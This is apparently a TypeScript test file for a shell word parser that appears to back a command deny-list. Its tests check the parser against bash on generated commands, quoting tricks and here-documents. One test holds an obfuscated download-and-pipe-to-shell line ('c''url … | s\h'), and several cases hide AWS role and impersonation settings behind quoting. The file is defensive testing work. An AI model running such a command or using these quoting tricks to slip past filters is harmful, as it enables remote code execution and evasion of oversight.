/**
 * The word reader against bash itself: generated commands of quoting, escapes, `$'…'`, line
 * continuations, comments and `{a,b}` lists are read by bash (`printf '%s\0'` prints each word it
 * passes) and by parseShell, and the words must agree. Parameter, command, tilde and glob
 * expansion are left out of the generator on purpose: parseShell keeps those as written.
 */
import { execFileSync } from 'child_process';
import { mkdtempSync, readdirSync, readFileSync } from 'fs';
import { tmpdir } from 'os';
import path from 'path';
import fc from 'fast-check';
import { parseShell, shellReading } from '../../src/engine/shell-words';

const EMPTY_DIR = mkdtempSync(path.join(tmpdir(), 'pg-words-'));
/**
 * A fresh seed each run, printed so that a failure can be replayed: PG_SHELL_SEED=<seed> npx jest
 * test/engine/shell-words.
 */
const SEED = Number(process.env.PG_SHELL_SEED ?? Math.floor(Math.random() * 2 ** 31));
// eslint-disable-next-line no-console
console.log(`shell differential seed: ${SEED} (replay with PG_SHELL_SEED=${SEED})`);

function bashWords(command: string): string[] {
  const out = execFileSync('bash', ['--noprofile', '--norc', '-c', `printf '%s\\0' ${command}`], {
    cwd: EMPTY_DIR,
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', LC_ALL: 'C.UTF-8' },
  });
  const parts = out.split('\0');
  parts.pop();
  return parts;
}

const ourWords = (command: string) => {
  const [first, ...rest] = parseShell(`printf '%s\\0' ${command}`);
  return { words: first.words.slice(2), rest };
};

const plain = fc.constantFrom('a', 'B', '0', '_', '=', '-', '.', '/', ':', '@', '%', '+', ',', 'é');
const inSingle = fc.stringMatching(/^[a-z $"\\`=;|&#{},*?]{0,6}$/).map((s) => `'${s}'`);
const inDouble = fc
  .stringMatching(/^[a-z '=;|&#{},*?]{0,6}$/)
  .chain((s) => fc.constantFrom('', '\\"', '\\\\', '\\$', '\\`', '\\a').map((escape) => `"${s}${escape}"`));
const escaped = fc.constantFrom(
  '\\ ',
  '\\;',
  "\\'",
  '\\"',
  '\\\\',
  '\\|',
  '\\&',
  '\\#',
  '\\a',
  '\\{',
  '\\}',
  '\\,',
  '\\$',
);
const ansi = fc.constantFrom(
  "$'a\\nb'",
  "$'\\x41'",
  "$'\\101'",
  "$'\\''",
  "$'\\t'",
  "$'\\\\'",
  "$'\\u00e9'",
  "$'x y'",
  "$'\\e'",
);
const continuation = fc.constant('\\\n');
const brace = fc
  .tuple(fc.stringMatching(/^[a-z]{0,3}$/), fc.stringMatching(/^[a-z]{1,3}$/))
  .map(([a, b]) => `{${a},${b}}`);
// `$"…"`: a locale string, which bash reads as `"…"` when there is no translation.
const locale = fc.stringMatching(/^[a-z '=;|&#{},*?-]{0,6}$/).map((s) => `$"${s}"`);
const atom = fc.oneof({ arbitrary: plain, weight: 6 }, inSingle, inDouble, escaped, ansi, continuation, brace, locale);
const word = fc
  .array(atom, { minLength: 1, maxLength: 6 })
  .map((atoms) => atoms.join(''))
  // A word of only a continuation is no word at all for bash either; a leading `#` starts a comment, `=`-only words are
  // fine.
  .filter((w) => w.replace(/\\\n/g, '') !== '' && !w.replace(/\\\n/g, '').startsWith('#'));
const separator = fc.constantFrom(' ', '  ', '\t', ' \\\n ');
// A lone backslash at the very end of the text is left out: bash's handling of it depends on what came before.
const command = fc
  .array(fc.tuple(word, separator), { minLength: 1, maxLength: 6 })
  .map((pairs) =>
    pairs
      .map(([w, s]) => w + s)
      .join('')
      .trimEnd(),
  )
  .filter((text) => !/(?:^|[^\\])(?:\\\\)*\\$/.test(text));

describe('parseShell reads words as bash does', () => {
  it('agrees with bash on 300 generated commands', () => {
    fc.assert(
      fc.property(command, (text) => {
        expect(ourWords(text).words).toEqual(bashWords(text));
      }),
      { numRuns: 300, seed: SEED },
    );
  });

  it.each([
    ["AWS_ROLE''_ARN=x", ['AWS_ROLE_ARN=x']],
    ['AWS_ROLE\\_ARN=x', ['AWS_ROLE_ARN=x']],
    ['"AWS_"ROLE_ARN"=x"', ['AWS_ROLE_ARN=x']],
    ["$'AWS_ROLE\\x5fARN'=x", ['AWS_ROLE_ARN=x']],
    ['AWS_{ROLE_ARN,X}=v', ['AWS_ROLE_ARN=v', 'AWS_X=v']],
    ['a\\\nb c # comment', ['ab', 'c']],
    ['\'{a,b}\' "{c,d}"', ['{a,b}', '{c,d}']],
    ['x $"--impersonate-service-account=a b"', ['x', '--impersonate-service-account=a b']],
  ])('reads %j like bash', (text, expected) => {
    expect(ourWords(text).words).toEqual(expected);
    expect(bashWords(text)).toEqual(expected);
  });

  it('splits commands at operators and reads command substitutions as commands', () => {
    const commands = parseShell('FOO=1 bar >/dev/null 2>&1 && echo "$(export AWS_PROFILE=p)" | s\'h\'; `x y`');
    expect(commands.map((c) => c.words)).toEqual([
      ['FOO=1', 'bar'],
      ['echo', '$(export AWS_PROFILE=p)'],
      ['sh'],
      ['`x y`'],
      ['export', 'AWS_PROFILE=p'],
      ['x', 'y'],
    ]);
    expect(commands[0].redirects).toEqual(['/dev/null']);
  });

  it('keeps here-document bodies with their command', () => {
    const [cat, echo] = parseShell("cat <<'EOF' >> ~/.aws/config\n[profile p]\nrole_arn = x\nEOF\necho done");
    expect(cat.heredocs).toEqual(['[profile p]\nrole_arn = x']);
    expect(cat.redirects).toEqual(['~/.aws/config']);
    expect(echo.words).toEqual(['echo', 'done']);
  });

  it('gives the shell reading with its operators, for deny patterns', () => {
    expect(shellReading("c''url -fsSL https://x.example | s\\h")).toBe('curl -fsSL https://x.example | sh');
  });

  it('never throws on unterminated quotes or substitutions', () => {
    for (const text of ['"abc', "'abc", '$(abc', '`abc', '${a', "$'a", 'a\\', 'cat <<EOF'])
      expect(() => parseShell(text)).not.toThrow();
  });
});

describe('shellReading of plain words', () => {
  it.each(['make build', '  npm   ci ', 'aws sts get-caller-identity --region=eu-west-1', 'a,b c+d@e%f'])(
    'reads %j as the parser does',
    (text) => {
      const parsed = parseShell(text)
        .map((c) => c.words.join(' '))
        .join('\n');
      expect(shellReading(text)).toBe(parsed);
    },
  );
});

/**
 * Compound text against bash: simple commands joined by `&&`, `||`, `;`, `|` and `&`, with output
 * redirections, quoted here-documents, `$(…)` inside words and `$v` / `${v}` of variables with known values.
 * Each simple command is `w ID …`: a bash function that records its words and its standard input; the
 * files bash creates are the redirection targets. IDs starting with F make `w` fail, so `||` runs the next.
 */
describe('parseShell reads compound commands as bash does', () => {
  const VALUES = new Map([
    ['v', 'a  b'],
    ['u', 'c'],
  ]);
  type Simple = { words: string[]; redirect?: string; heredoc?: string[]; nested?: string[] };
  const simpleWord = fc.oneof(
    { arbitrary: word, weight: 4 },
    fc.constantFrom('$v', '${v}', '"$v"', '"${u}x"', 'p$u', "'$v'"),
  );
  const simple: fc.Arbitrary<Simple> = fc.record(
    {
      words: fc.array(simpleWord, { minLength: 0, maxLength: 3 }),
      redirect: fc
        .constantFrom('>', '>>', '2>', '&>', '>|')
        .chain((op) => fc.constantFrom(`${op} r1`, `${op}r2`, `${op} 'r 3'`, `${op} "r"4`)),
      heredoc: fc.array(fc.stringMatching(/^[a-z $'"`\\;|&]{1,8}$/), { minLength: 1, maxLength: 3 }),
      nested: fc.array(fc.stringMatching(/^[a-z]{1,3}$/), { minLength: 1, maxLength: 2 }),
    },
    { requiredKeys: ['words'] },
  );
  const compound = fc.tuple(
    simple,
    fc.array(fc.tuple(fc.constantFrom('&&', '||', ';', '|', '&', '\n'), simple), { maxLength: 3 }),
  );

  function render([first, rest]: [Simple, Array<[string, Simple]>]): string {
    let id = 0;
    const parts: string[] = [];
    const all: Array<[Simple, string]> = [
      [first, rest[0]?.[0] ?? ''],
      ...rest.map(([, cmd], i): [Simple, string] => [cmd, rest[i + 1]?.[0] ?? '']),
    ];
    for (const [cmd, next] of all) {
      const name = `${next === '||' ? 'F' : 'T'}${id++}`;
      const nested = cmd.nested ? ` p$(w T${id++} ${cmd.nested.join(' ')})` : '';
      const text =
        `w ${name} ${cmd.words.join(' ')}${nested}` +
        `${cmd.redirect ? ` ${cmd.redirect}` : ''}${cmd.heredoc ? " <<'EOF'" : ''}`;
      const separator = next === '\\n' || next === '' ? '\n' : ` ${next} `;
      parts.push(
        text + (cmd.heredoc ? `\n${[...cmd.heredoc, 'EOF'].join('\n')}\n` : separator === '\n' ? '\n' : separator),
      );
      if (cmd.heredoc && separator !== '\n') parts.push(next === '&' ? 'wait; ' : '');
    }
    return parts.join('');
  }

  function viaBash(text: string): { records: string[]; files: string[] } {
    const dir = mkdtempSync(path.join(tmpdir(), 'pg-compound-'));
    // One write per record, so that the commands of a pipeline, which run at once, cannot interleave.
    const recorder =
      `w() { local i r; i=$(cat; echo .); printf -v r '%s\\3' "$@"; ` +
      `printf '%s\\1%s\\2' "$r" "\${i%.}" >> "$OUT"; [ "\${1#F}" = "$1" ]; }`;
    execFileSync('bash', ['--noprofile', '--norc', '-c', `${recorder}\n${text}\nwait`], {
      cwd: dir,
      encoding: 'utf8',
      input: '',
      env: {
        PATH: process.env.PATH ?? '/usr/bin:/bin',
        OUT: path.join(EMPTY_DIR, path.basename(dir)),
        v: VALUES.get('v')!,
        u: VALUES.get('u')!,
        LC_ALL: 'C.UTF-8',
      },
    });
    const out = readFileSync(path.join(EMPTY_DIR, path.basename(dir)), 'utf8');
    const records = out
      .split('\u0002')
      .filter(Boolean)
      .map((record) => {
        const [words, input] = record.split('\u0001');
        return `${words
          .split('\u0003')
          .filter((_, i, all) => i < all.length - 1)
          .join(' | ')} <<${input}`;
      });
    return { records: records.sort(), files: readdirSync(dir).sort() };
  }

  function viaReader(text: string): { records: string[]; files: string[] } {
    const commands = parseShell(text, 0, VALUES).filter((command) => command.words[0] === 'w');
    const records = commands.map((command) => {
      const words = command.words.slice(1).map((w) => w.replace(/\$\([^()]*\)/g, ''));
      const input = command.heredocs.map((body) => `${body}\n`).join('');
      return `${words.join(' | ')} <<${input}`;
    });
    return { records: records.sort(), files: [...new Set(commands.flatMap((command) => command.redirects))].sort() };
  }

  it('agrees with bash on 150 generated compound commands', () => {
    fc.assert(
      fc.property(compound, (structure) => {
        const text = render(structure);
        expect([text, viaReader(text)]).toEqual([text, viaBash(text)]);
      }),
      { numRuns: 150, seed: SEED },
    );
  });
});

describe('parseShell reads a text once', () => {
  it('answers a text it read before with the same commands, which no caller can change', () => {
    const text = `export AWS_ROLE_ARN=arn:aws:iam::000000000000:role/dev-${Date.now()} && aws sts get-caller-identity`;
    const first = parseShell(text);
    expect(() => (first[0].words as string[]).push('--profile')).toThrow(TypeError);
    first.pop();
    const second = parseShell(text);
    expect(second).toHaveLength(2);
    expect(second[0].words).toEqual(['export', expect.stringMatching(/^AWS_ROLE_ARN=arn:aws:iam::0{12}:role\/dev-/)]);
    expect(second[1].words).toEqual(['aws', 'sts', 'get-caller-identity']);
  });

  it('reads with known values afresh, never from what it read without them', () => {
    const text = 'deploy --role "$ROLE"';
    expect(parseShell(text)[0].words).toEqual(['deploy', '--role', '$ROLE']);
    expect(parseShell(text, 0, new Map([['ROLE', 'prod-admin']]))[0].words).toEqual(['deploy', '--role', 'prod-admin']);
    expect(parseShell(text)[0].words).toEqual(['deploy', '--role', '$ROLE']);
  });
});
